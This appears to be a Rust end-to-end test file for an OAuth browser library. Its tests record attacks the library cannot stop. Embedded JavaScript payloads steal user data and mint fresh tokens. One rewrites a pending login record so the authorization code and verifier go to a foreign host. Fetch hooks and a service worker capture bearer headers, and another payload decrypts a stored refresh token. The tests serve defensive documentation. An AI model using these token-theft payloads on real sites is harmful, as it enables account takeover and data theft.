//! What cannot be defended, shown.
//!
//! Each test here shows what an attacker gets. Where one fails because the attack no longer works, that is good news,
//! and SECURITY.md has to hear of it.

use attacks::{ACCESS, REFRESH, fresh_session, plant_canaries};
use e2e::{APP, Engine, PENDING, World, parameter};
use serde_json::json;
use url::Url;

#[tokio::test]
async fn script_in_the_page_can_call_and_read_what_the_application_can_and_start_a_login_of_its_own()
 {
    let world = World::start().await;
    fresh_session(&world).await;
    let script = "const [origin, config] = args
        const theirs = await import('/pkg/oauth-wasm.js')
        const stolen = await (await theirs.fetchPrivate(origin + '/users/me')).json()
        let went
        await theirs.startLogin({ ...config, navigate: url => { went = url } })
        const session = await theirs.session()
        return [stolen.email, went, session.scope]";
    let args = [json!(world.sandbox_origin), world.config(json!({}))];
    let seen = world.run(script, &args).await;
    assert_eq!(
        seen[0], "test_user_38730994@testuser.com",
        "the user's data"
    );
    assert_eq!(seen[2], json!(["offline_access", "read", "write"]));

    // Without the library, with a verifier of its own: it holds what it gets.
    let url = Url::parse(seen[1].as_str().expect("a URL")).expect("a URL");
    let challenge = "window.verifier = 'theirs-'.repeat(7)
        const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))
        return btoa(String.fromCharCode(...new Uint8Array(hash))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')";
    let challenge = world.run(challenge, &[]).await;
    let mut own = url.clone();
    own.query_pairs_mut()
        .clear()
        .extend_pairs(url.query_pairs().map(|(name, value)| {
            let value = match &*name {
                "code_challenge" => challenge.as_str().expect("text").to_owned(),
                "state" => "theirs".to_owned(),
                _ => value.into_owned(),
            };
            (name.into_owned(), value)
        }));
    let code = parameter(&world.redirect(own.as_str()), "code").expect("a code");
    let redeem = "const [endpoint, code, { clientId, redirectUri }] = args
        const body = new URLSearchParams({ grant_type: 'authorization_code', code, code_verifier: verifier,
            client_id: clientId, redirect_uri: redirectUri })
        const answer = await (await fetch(endpoint, { method: 'POST', body })).json()
        return [typeof answer.access_token, typeof answer.refresh_token]";
    let endpoint = format!("{}/oauth/token", world.sandbox_origin);
    let args = [json!(endpoint), json!(code), world.config(json!({}))];
    let held = world.run(redeem, &args).await;
    assert_eq!(held, json!(["string", "string"]));
}

#[tokio::test]
async fn script_in_the_page_can_read_and_rewrite_the_record_of_a_login_that_waits() {
    let world = World::start().await;
    world.open_app(APP).await;
    let url = world.begin(json!({})).await;
    let state = parameter(&url, "state").expect("a state");
    let script = "const key = args[0] + args[1]
        const endpoint = args[2] + '/token'
        const record = sessionStorage[key]
        sessionStorage[key] = record.replace(/\\d+;http:[^;]*\\/oauth\\/token/, endpoint.length + ';' + endpoint)
        if (sessionStorage[key] === record) throw Error('nothing to change')
        return record.slice(record.lastIndexOf(';') + 1)";
    let args = [json!(PENDING), json!(state), json!(world.foreign.origin)];
    let verifier = world.run(script, &args).await;
    let redirect = world.redirect(&url);
    let code = parameter(&redirect, "code").expect("a code");
    let outcome = attacks::answer(&world, &redirect).await;
    assert!(outcome["error"].is_object(), "{outcome}");
    let foreign = world.foreign.requests();
    let got = foreign.iter().find(|request| request.path == "/token");
    let got = got.expect("the code went where the script sent it");
    assert!(got.body.contains(&code), "{got:?}");
    assert!(got.body.contains(verifier.as_str().expect("a verifier")));
    assert_eq!(world.token_requests("authorization_code"), 0);
}

#[tokio::test]
async fn natives_that_were_replaced_before_the_module_was_evaluated_see_the_token() {
    let world = World::start().await;
    plant_canaries(&world);
    world.app.serve(
        "/early.html",
        "text/html",
        "<!doctype html><title>early</title><link rel=icon href='data:,'>
        <script>
            window.seen = []
            const { fetch } = window
            window.fetch = async (input, init) => {
                const header = new Request(input, init).headers.get('authorization')
                if (header) seen.push(header)
                return fetch(input, init)
            }
        </script>
        <script type=module src=/e2e/app.js></script>",
    );
    let home = format!("{}/early.html", world.app.origin);
    world.open_app("/early.html").await;
    world.leave(json!({ "redirectUri": home })).await;
    let outcome = world.redirected().await;
    assert!(outcome["session"].is_object(), "{outcome}");
    let answer = world.fetch_private("/sites", json!({})).await;
    assert_eq!(answer["value"]["status"], 200, "{answer}");
    let seen = world.run("return seen", &[]).await;
    assert_eq!(seen, json!([format!("Bearer {ACCESS}")]));
}

#[tokio::test]
async fn a_service_worker_of_the_origin_sees_the_header_of_every_call() {
    let world = World::start().await;
    plant_canaries(&world);
    world.app.serve(
        "/worker.js",
        "text/javascript",
        "addEventListener('install', () => skipWaiting())
        addEventListener('activate', event => event.waitUntil(clients.claim()))
        addEventListener('fetch', event => {
            const seen = event.request.headers.get('authorization')
            if (seen) new BroadcastChannel('seen').postMessage(seen)
        })",
    );
    world.open_app(APP).await;
    let install = "await navigator.serviceWorker.register('/worker.js')
        if (!navigator.serviceWorker.controller)
            await new Promise(resolve => navigator.serviceWorker.addEventListener('controllerchange', resolve))
        return true";
    assert_eq!(world.run(install, &[]).await, true);
    let redirect = world.redirect(&world.begin(json!({})).await);
    let outcome = attacks::answer(&world, &redirect).await;
    assert!(outcome["value"].is_object(), "{outcome}");
    let script = "const seen = new Promise(resolve => {
            new BroadcastChannel('seen').onmessage = ({ data }) => resolve(data)
        })
        await oauth.fetchPrivate(args[0] + '/sites')
        return await seen";
    let seen = world.run(script, &[json!(world.sandbox_origin)]).await;
    assert_eq!(seen, format!("Bearer {ACCESS}"));
}

const PERFORMANCE: &str = "performance";
const ACTIVATION: &str = "navigation.activation";
const FILE: &str = "ErrorEvent.filename";
const STACK: &str = "stack";
const PLACES: [&str; 5] = ["the address bar", PERFORMANCE, ACTIVATION, FILE, STACK];

/// S5. In its records of the navigation, and as the name of the page's inline scripts. With a code it is the same; that is
/// spent by then.
#[tokio::test]
async fn the_browser_keeps_the_address_of_an_implicit_answer_where_script_can_read_it() {
    let world = World::start().await;
    world.app.serve(
        "/inlined.html",
        "text/html",
        "<!doctype html><title>inlined</title><link rel=icon href='data:,'>
        <script>window.failing = () => { throw new Error('of an inline script') }</script>
        <script type=module src=/e2e/app.js></script>",
    );
    let home = format!("{}/inlined.html", world.app.origin);
    let script = "const told = new Promise(resolve => addEventListener('error', event => {
            event.preventDefault()
            resolve(event)
        }, { once: true }))
        setTimeout(failing)
        const { filename, error } = await told
        return {
            'the address bar': location.href,
            'performance': performance.getEntriesByType('navigation')[0].name,
            'navigation.activation': window.navigation?.activation?.entry.url ?? null,
            'ErrorEvent.filename': filename,
            'stack': error.stack,
        }";
    for (response_type, secret) in [("code", "code="), ("token", "access_token=")] {
        world.open_app("/inlined.html").await;
        let config = json!({ "redirectUri": home, "responseType": response_type });
        let redirect = world.redirect(&world.begin(config).await);
        let outcome = world.come_back(&redirect).await;
        assert!(outcome["session"].is_object(), "{outcome}");
        let seen = world.run(script, &[]).await;
        let (_, secret) = redirect.split_once(secret).expect("an answer");
        let secret = secret.split('&').next().expect("a secret");
        let names = |place: &&str| {
            let text = seen[*place].as_str();
            text.is_some_and(|text| text.contains(secret))
        };
        let kept: Vec<_> = PLACES.into_iter().filter(names).collect();
        let wanted: &[&str] = match (world.engine, response_type) {
            (Engine::Chromium, "token") => &[PERFORMANCE, ACTIVATION],
            // Older ones have no `navigation.activation`.
            (Engine::Firefox, _) if seen[ACTIVATION].is_null() => &[PERFORMANCE, FILE, STACK],
            (Engine::Chromium | Engine::Firefox, _) => &[PERFORMANCE, ACTIVATION, FILE, STACK],
            (Engine::WebKit, _) => &[PERFORMANCE, FILE],
        };
        assert_eq!(kept, wanted, "{response_type}: {seen}");
    }
}

#[tokio::test]
async fn script_of_the_origin_can_open_what_is_kept_on_the_device() {
    let world = World::start().await;
    plant_canaries(&world);
    world.open_app(APP).await;
    let mut config = world.config(json!({ "keep": "device" }));
    config["redirectUri"] = json!(format!("{}{APP}", world.app.origin));
    let outcome = world.log_in_here(config.clone()).await;
    assert!(outcome["value"].is_object(), "{outcome}");
    // The key cannot be read, but it can be used by whoever runs here.
    let script = "const settled = request => new Promise((resolve, reject) => {
            request.onsuccess = () => resolve(request.result)
            request.onerror = () => reject(request.error)
        })
        const database = await settled(indexedDB.open('oauth-wasm'))
        const items = database.transaction('items').objectStore('items')
        const [names, values] = [await settled(items.getAllKeys()), await settled(items.getAll())]
        const at = names.findIndex(name => name.startsWith('session.'))
        const key = values[names.indexOf('key')].value
        const { salt, generation, clientId } = JSON.parse(values[at].text)
        const utf8 = text => new TextEncoder().encode(text)
        const derived = await crypto.subtle.deriveKey(
            { name: 'HKDF', hash: 'SHA-256', salt: utf8(salt), info: utf8('oauth-wasm') }, key,
            { name: 'AES-GCM', length: 256 }, false, ['decrypt'])
        const name = names[at].slice('session.'.length)
        const additionalData = utf8(['oauth-wasm 1 kept', location.origin, clientId, name, generation].join(' '))
        const { two } = values[at]
        const opened = await crypto.subtle.decrypt({ name: 'AES-GCM', iv: two.slice(0, 12), additionalData }, derived, two.slice(12))
        return [key.extractable, new TextDecoder().decode(opened)]";
    let seen = world.run(script, &[]).await;
    assert_eq!(seen[0], false);
    let opened = seen[1].as_str().expect("text");
    assert!(opened.contains(REFRESH), "the refresh token");
    assert!(!opened.contains(ACCESS), "but no access token: {opened}");
}
